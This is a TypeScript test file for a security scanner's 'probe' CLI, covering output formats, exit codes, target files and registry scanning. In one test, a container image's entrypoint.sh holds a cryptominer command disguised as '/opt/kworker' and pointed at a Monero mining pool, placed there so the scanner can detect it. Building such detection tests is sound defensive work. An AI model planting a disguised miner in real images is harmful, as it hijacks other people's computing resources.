/**
 * `nomine probe` as a user runs it (through test/helpers/probe-cli.ts until main.ts registers the command): output
 * formats, exit codes, --targets-file, and --scan-registries handing an open registry on to `nomine scan`.
 */
import { strict as assert } from 'node:assert';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { makeLayer, sha256 } from '../helpers/image-builder.ts';
import { makeTestCertificates } from '../helpers/probe-certificates.ts';
import { kubeApiHandler, serveHttp, type TestServer } from '../helpers/probe-servers.ts';
import { startRegistryServer, type RegistryServer } from '../helpers/registry-server.ts';
import { describeRun, parseStdout, runNode, tempHome } from '../helpers/run-cli.ts';

const probeCli = (args: string[], home: string) => runNode(['--import', 'tsx', 'test/helpers/probe-cli.ts', 'probe', ...args], { home, timeoutMs: 60_000 });

describe('nomine probe (CLI)', () => {
  let home: string;
  let api: TestServer;
  let hardened: TestServer;
  let registry: RegistryServer;
  before(async () => {
    home = await tempHome();
    [api, hardened, registry] = await Promise.all([serveHttp(kubeApiHandler({ anonymous: true })), serveHttp(kubeApiHandler({ anonymous: false }), { tls: makeTestCertificates().selfSigned }), startRegistryServer()]);
  });
  after(async () => Promise.all([api?.stop(), hardened?.stop(), registry?.stop()]));

  it('exits 1 with JSON findings carrying severity, evidence and remediation', async () => {
    const result = await probeCli([api.name, '--json', '--timeout', '2000'], home);
    assert.equal(result.code, 1, describeRun(result));
    const report = parseStdout(result);
    const outcome = report.endpoints[0].outcomes.find((o: { checkId: string }) => o.checkId === 'kube.api.anonymous');
    assert.equal(outcome.status, 'fail');
    assert.equal(outcome.severity, 'critical');
    assert.ok(outcome.remediation.includes('anonymous'));
    assert.ok(outcome.evidence.length >= 4);
  });

  it('writes SARIF to a file with one rule per failing check', async () => {
    const out = join(await mkdtemp(join(tmpdir(), 'nomine-probe-sarif-')), 'probe.sarif');
    const result = await probeCli([api.name, '--format', 'sarif', '-o', out], home);
    assert.equal(result.code, 1, describeRun(result));
    const sarif = JSON.parse(await readFile(out, 'utf8'));
    assert.equal(sarif.version, '2.1.0');
    const ruleIds = sarif.runs[0].tool.driver.rules.map((rule: { id: string }) => rule.id).sort();
    assert.deepEqual(ruleIds, ['kube.api.anonymous', 'kube.api.insecure-port', 'tls.plain-http']);
    assert.equal(sarif.runs[0].results[0].locations[0].logicalLocations[0].name, api.name);
  });

  it('exits 0 for a hardened endpoint read from --targets-file when only a finding below --fail-on remains', async () => {
    const file = join(await mkdtemp(join(tmpdir(), 'nomine-probe-targets-')), 'targets.txt');
    await writeFile(file, `# our API server\nhttps://${hardened.name}\n\n`);
    const result = await probeCli(['--targets-file', file, '--fail-on', 'high'], home);
    assert.equal(result.code, 0, describeRun(result));
    assert.match(result.stdout, /kube\.api\.anonymous/);
    assert.match(result.stdout, /1 endpoints: 1 open/);
    // The self-signed certificate is a low finding: listed, but below --fail-on high.
    assert.match(result.stdout, /FAIL .*low .*tls\.self-signed/);
  });

  it('exits 2 for a malformed target, saying why on stderr, and 2 with no target at all', async () => {
    const bad = await probeCli(['999.1.1.1:99999'], home);
    assert.equal(bad.code, 2, describeRun(bad));
    assert.match(bad.stderr, /invalid target 999\.1\.1\.1:99999: .*port 99999 is outside 1-65535/);
    const none = await probeCli([], home);
    assert.equal(none.code, 2);
    assert.match(none.stderr, /name at least one target/);
  });

  it('--scan-registries scans every image of an open registry and reports the miner slipped into one', async () => {
    await pushImage(registry.host, 'team/app', '1');
    const miner = '#!/bin/sh\nexec /opt/kworker -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1 --cpu-priority 0\n';
    await pushImage(registry.host, 'team/app', '2', [{ path: 'entrypoint.sh', content: miner, mode: 0o755 }]);
    const result = await probeCli([registry.host, '--scan-registries', '--json'], home);
    assert.equal(result.code, 1, describeRun(result));
    const report = parseStdout(result);
    assert.equal(report.followUps.length, 1);
    const [followUp] = report.followUps;
    assert.equal(followUp.command, `nomine scan registry ${registry.host} --insecure`);
    assert.equal(followUp.error, undefined);
    assert.deepEqual([...followUp.images].sort(), [`docker://${registry.host}/team/app:1`, `docker://${registry.host}/team/app:2`]);
    assert.equal(followUp.scan.images, 2);
    assert.deepEqual(followUp.scan.errors, []);
    assert.deepEqual(
      followUp.scan.findings.map((finding: { image: string; what: string }) => `${finding.image} ${finding.what}`),
      [`docker://${registry.host}/team/app:2 /entrypoint.sh`],
    );
  });
});

/** Pushes a one-layer image through the upload API (POST, then PUT ?digest= per blob, then PUT of the manifest). */
async function pushImage(host: string, repository: string, tag: string, files: { path: string; content: string; mode?: number }[] = [{ path: 'hello.txt', content: 'hi' }]): Promise<void> {
  const layer = await makeLayer({ files }, 'gzip');
  const config = Buffer.from(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [layer.diffId] }, config: {} }));
  for (const blob of [layer.blob, config]) {
    const start = await fetch(`http://${host}/v2/${repository}/blobs/uploads/`, { method: 'POST' });
    await start.arrayBuffer();
    const location = new URL(start.headers.get('location') ?? '', `http://${host}`);
    location.searchParams.set('digest', sha256(blob));
    const response = await fetch(location, { method: 'PUT', body: blob, headers: { 'content-type': 'application/octet-stream' } });
    assert.equal(response.status, 201, await response.text());
  }
  const manifest = {
    schemaVersion: 2,
    mediaType: 'application/vnd.oci.image.manifest.v1+json',
    config: { mediaType: 'application/vnd.oci.image.config.v1+json', digest: sha256(config), size: config.length },
    layers: [{ mediaType: layer.mediaType, digest: layer.digest, size: layer.size }],
  };
  const put = await fetch(`http://${host}/v2/${repository}/manifests/${tag}`, { method: 'PUT', body: JSON.stringify(manifest), headers: { 'content-type': manifest.mediaType } });
  assert.equal(put.status, 201, await put.text());
}
